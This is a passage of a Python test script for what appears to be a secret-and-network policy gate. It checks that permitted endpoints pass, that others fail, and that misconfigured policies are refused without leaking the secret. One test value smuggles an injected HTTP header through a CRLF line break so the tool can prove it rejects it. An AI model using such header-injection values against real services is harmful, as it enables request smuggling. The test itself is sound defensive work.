(folder / "check.py").write_text("import os, urllib.request\nos.environ['WEATHER_KEY']\n"
                                 "urllib.request.urlopen('http://weather.cordon.internal/now')\n")
done = subprocess.run([program, "check", "--policy", folder / "policy.yaml", folder / "check.py"], env=environment, capture_output=True, text=True)
claim("the check lets an endpoint and a placeholder pass", done.returncode == 0, done)
(folder / "check.py").write_text("import urllib.request\nurllib.request.urlopen('http://none.cordon.internal/now')\n")
done = subprocess.run([program, "check", "--policy", folder / "policy.yaml", folder / "check.py"], env=environment, capture_output=True, text=True)
claim("and no other one", done.returncode == 1, done)

# What cannot be had is said before anything runs.
for what, change, more, wanted in (
    ("a variable that is not set", ("env: WEATHER_KEY", "env: NOT_THERE"), {}, "NOT_THERE is not set"),
    ("a file that is not there", ("file: ./key", "file: ./none"), {}, "none"),
    ("a file that is none", ("file: ./key", "file: ./sub"), {}, "no regular file"),
    ("a command that fails", ("cat /", "exit 3; cat /"), {}, "failed"),
    ("a value that is too short", ("", ""), {"WEATHER_KEY": "short"}, "shorter than 8"),
    ("a value with a line break", ("", ""), {"WEATHER_KEY": "with a\r\nX-Other: line"}, "not visible ASCII"),
    ("authorities that are not there", ("./authority.pem", "./none.pem"), {}, "no certificates"),
    ("a variable that is granted, too", ("grants:\n", "grants:\n  - env: WEATHER_KEY\n"), {}, "is granted to the program"),
):
    (folder / "wrong.yaml").write_text(POLICY.replace(*change, 1) if change[0] else POLICY)
    done = subprocess.run([program, "run", "--gate", "warn", "--policy", folder / "wrong.yaml", folder / "program.py"],
                          env={**environment, **more}, capture_output=True, text=True, timeout=60)
    claim(what, done.returncode == 125 and wanted in done.stderr and SECRET not in done.stderr and "X-Other" not in done.stderr, done)

finish()
